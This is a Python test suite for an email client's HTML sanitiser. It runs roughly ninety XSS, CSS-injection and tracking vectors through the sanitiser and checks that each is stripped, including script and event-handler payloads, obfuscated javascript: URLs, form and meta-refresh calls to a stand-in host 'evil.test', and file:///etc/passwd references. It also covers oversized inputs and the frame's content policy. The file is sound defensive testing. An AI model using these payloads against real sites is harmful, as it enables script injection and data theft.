"""Hostile HTML: nothing runs, nothing loads, nothing leaves the letter."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailbox.reading.frame import FRAME_CSP
from mailbox.reading.guard import is_too_much
from mailbox.reading.pictures import Pictures
from mailbox.reading.sanitise import TAGS, Showing, sanitise
from mailbox.reading.styles import clean_sheet, clean_style

DOCUMENT = {"html", "head", "body", "meta", "style", "details", "summary"}
PLAINLY = Showing(cid_url=lambda _cid: None)
WITH_PARTS = Showing(cid_url=lambda cid: f"/part/{len(cid)}")
ADDRESSES = {"href", "src"}
SAFE_ADDRESS = re.compile(
    r"(?:https?:|mailto:|tel:)|/part/|data:image/(?:png|jpeg|gif);base64,",
    re.IGNORECASE,
)


class Checker(HTMLParser):
    """Reads what came out as a browser would, and notes what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS | DOCUMENT:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {
                "srcset",
                "background",
                "action",
                "id",
            }:
                self.faults.append(f"{tag} {name}")
            if name in ADDRESSES and not SAFE_ADDRESS.match(value or ""):
                self.faults.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and (value or "").startswith("http"):
                self.faults.append(f"loads {value}")
            if name == "style" and re.search(r"url\(|position|expression", value or ""):
                self.faults.append(f"style {value}")


def faults_of(html: str) -> list[str]:
    checker = Checker()
    checker.feed(str(sanitise(html, WITH_PARTS).html))
    checker.close()
    return checker.faults


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\x0b=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='javascript:123'>x</a>",
    "<base href='https://evil.test/'><a href='/x'>x</a>",
    "<form action='https://evil.test/'><input name=p><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<link rel=prefetch href='https://evil.test/'>",
    "<iframe src='https://evil.test/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test/x'></object>",
    "<embed src='https://evil.test/x'>",
    "<video poster='https://evil.test/x'><source src='https://evil.test/y'></video>",
    "<audio src='https://evil.test/x'></audio>",
    "<img srcset='https://evil.test/x 2x'>",
    "<picture><source srcset='https://evil.test/x'><img src='//evil.test/y'></picture>",
    "<table background='https://evil.test/x'><tr><td background='//evil.test/y'>",
    "<body background='https://evil.test/x' onload=alert(1)>",
    "<div style='background:url(https://evil.test/x)'>x</div>",
    "<div style='background-image:url(https://evil.test/x)'>x</div>",
    "<div style='background:\\75rl(https://evil.test/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x.xml#x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='position:absolute;z-index:9999'>x</div>",
    "<div style='content:attr(title)'>x</div>",
    "<div style='color:var(--x)'>x</div>",
    "<style>@import url(https://evil.test/x.css);</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.test/f)}</style>",
    "<style>body{background:url(https://evil.test/x)}</style>",
    "<style>p{position:fixed}</style><p>x",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src='cid:../../admin'>",
    "<img src='cid:%2e%2e/%2e%2e'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='file:///etc/passwd'>",
    "<img src='ftp://evil.test/x'>",
    "<a href='file:///etc/passwd'>x</a>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<select><option onclick=alert(1)>x</select>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p id=x name=y onclick=alert(1)>x</p>",
    "<a id='constructor' name='body' href='https://ok.test/'>x</a>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<b/onclick=alert(1)>x",
    "<<script>alert(1)//<</script>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img alt='`><script>alert(1)</script>'>",
    "<div title='--><script>alert(1)</script>'>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<a href='https://ok.test/' target=_top ping='https://evil.test/'>x</a>",
    "<img src=https://evil.test/x.gif width=1 height=1>",
    "<img src=//evil.test/x.gif>",
    "<img src='https:/evil.test/x'>",
    "<input type=image src='https://evil.test/x'>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<applet code=x></applet>",
    "<object><param name=src value='javascript:alert(1)'></object>",
    "<isindex action='javascript:alert(1)'>",
    "<keygen onfocus=alert(1) autofocus>",
    "<math href='javascript:alert(1)'>x</math>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></foreignObject></svg>",
    "<svg><use href='https://evil.test/#x'></svg>",
    "<svg><image href='https://evil.test/x'></svg>",
    "<svg><style>@import 'https://evil.test/x'</style></svg>",
]


@pytest.mark.parametrize("html", VECTORS)
def test_nothing_hostile_is_left(html: str) -> None:
    assert faults_of(html) == []


@pytest.mark.parametrize("html", VECTORS)
@pytest.mark.parametrize("around", ["<table><tr><td>{}", "<div><p>{}</div>", "<b>{}"])
def test_nothing_hostile_is_left_inside_other_tags(html: str, around: str) -> None:
    assert faults_of(around.replace("{}", html)) == []


@given(st.text(alphabet="<>/='\"&;!-abcimgsrconstyle: \n\x00漢", max_size=200))
def test_any_text_comes_out_harmless(html: str) -> None:
    assert faults_of(html) == []


@given(st.text(max_size=200))
def test_any_css_comes_out_without_loading(css: str) -> None:
    assert "url(" not in clean_style(css).lower()
    assert "<" not in clean_sheet(css)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 20_000,
        "<div>" * 200_000,
        "<b>" * 5_000 + "<p>" * 5_000,
        "<table>" * 10_000,
        "<" * 500_000,
        "<!--" * 100_000,
        "<style>" * 50_000,
        "<img " * 50_000,
        "<a href='" * 50_000,
        "x" * 3_000_000,
    ],
)
def test_hostile_sizes_are_answered_quickly(html: str) -> None:
    start = time.process_time()

    sanitise(html, PLAINLY)

    assert time.process_time() - start < 3


def test_too_deep_a_page_is_not_parsed() -> None:
    assert is_too_much("<div>" * 1000)
    assert not is_too_much("<div></div>" * 1000)
    assert sanitise("<div>" * 1000 + "x", PLAINLY).is_guarded


def test_remote_pictures_are_held_back_and_counted() -> None:
    document = sanitise(
        "<img src='https://a.test/1.png'><img src='//a.test/2.png'>"
        "<img src='https://a.test/p.gif' width=1 height='1'><img src='cid:own'>",
        WITH_PARTS,
    )

    assert document.pictures == Pictures(images=2, trackers=1)
    assert 'src="/part/3"' in document.html
    assert "a.test" not in document.html


def test_what_mail_needs_is_kept() -> None:
    document = sanitise(
        "<style>p{color:#123;margin:0}@media (max-width:600px){td{width:100%}}</style>"
        "<body bgcolor='#eee'><p style='font-weight:bold;color:red'>Hi "
        "<a href='https://ok.test/?a=1&amp;b=2'>there</a></p></body>",
        PLAINLY,
    )

    assert "font-weight:bold;color:red" in document.html
    assert "@media (max-width:600px)" in document.html
    assert 'href="https://ok.test/?a=1&amp;b=2"' in document.html
    assert 'rel="noopener noreferrer nofollow"' in document.html


def test_the_frame_s_policy_lets_nothing_run() -> None:
    assert "default-src 'none'" in FRAME_CSP
    assert "allow-scripts" not in FRAME_CSP
